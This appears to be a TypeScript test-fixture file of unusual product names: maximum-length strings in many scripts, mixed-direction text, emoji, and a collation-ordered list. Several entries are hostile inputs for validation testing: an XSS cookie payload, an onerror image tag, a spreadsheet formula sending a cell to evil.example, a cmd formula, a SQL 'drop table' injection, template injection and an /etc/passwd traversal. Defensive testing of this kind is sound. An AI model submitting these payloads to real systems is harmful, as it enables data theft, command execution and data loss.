import { maxLengths } from '@backroom/proto/lengths';

/** Names that people may type: of the maximum length in several scripts, and text that is code elsewhere. */
export const oddNames: readonly [what: string, name: string][] = [
  ['letters with marks', 'é'.repeat(200)],
  ['Cyrillic', 'ж'.repeat(200)],
  ['Greek', 'Ωμέγα'.repeat(40)],
  ['Chinese', '商品'.repeat(100)],
  ['Japanese', 'コーヒー'.repeat(50)],
  ['Hindi', 'शकि'.repeat(66)],
  ['Thai', 'ที่'.repeat(66)],
  ['Arabic, from right to left', 'مرحبا'.repeat(40)],
  ['Hebrew, from right to left', 'שלום'.repeat(50)],
  ['both directions', 'Cola كولا 330 ml (קולה)'],
  ['emoji', '👩‍👩‍👧'.repeat(40)],
  ['beyond the first plane', '𠮷'.repeat(200)],
  ['a script', '<script>alert(document.cookie)</script>'],
  ['an image that runs', '"><img src=x onerror=alert(1)>'],
  ['a formula', '=HYPERLINK("http://evil.example?"&A1,"Cola")'],
  ['a formula by its sign', "+1+cmd|' /C calc'!A0"],
  ['a formula by a minus', '-2+3'],
  ['a function', '@SUM(1+1)*cmd'],
  ['a formula that is guarded already', "'=1+1"],
  ['SQL', "'); drop table product; --"],
  ['a placeholder', '{{constructor.constructor("x")()}} ${1} %s'],
  ['a path', '../../../etc/passwd'],
];

/** A name cut to the maximum length of a tag. */
export const shortOf = (name: string): string => [...name].slice(0, maxLengths.settingName).join('').trim();

/** Names in the order of the root collation, which is neither that of their characters nor that of one language. */
export const sortedNames = [
  ...[
    '10',
    '9',
    'Ääkkö',
    'ab',
    'abc',
    'ＡＢＣ店',
    'Coca-Cola',
    'Lodz',
    'Łódź',
    "O'Brien",
    'Ørsted',
    'Zone',
    'Zürich HB',
  ],
  ...['Азбука', 'かふぇ', '東京'],
];
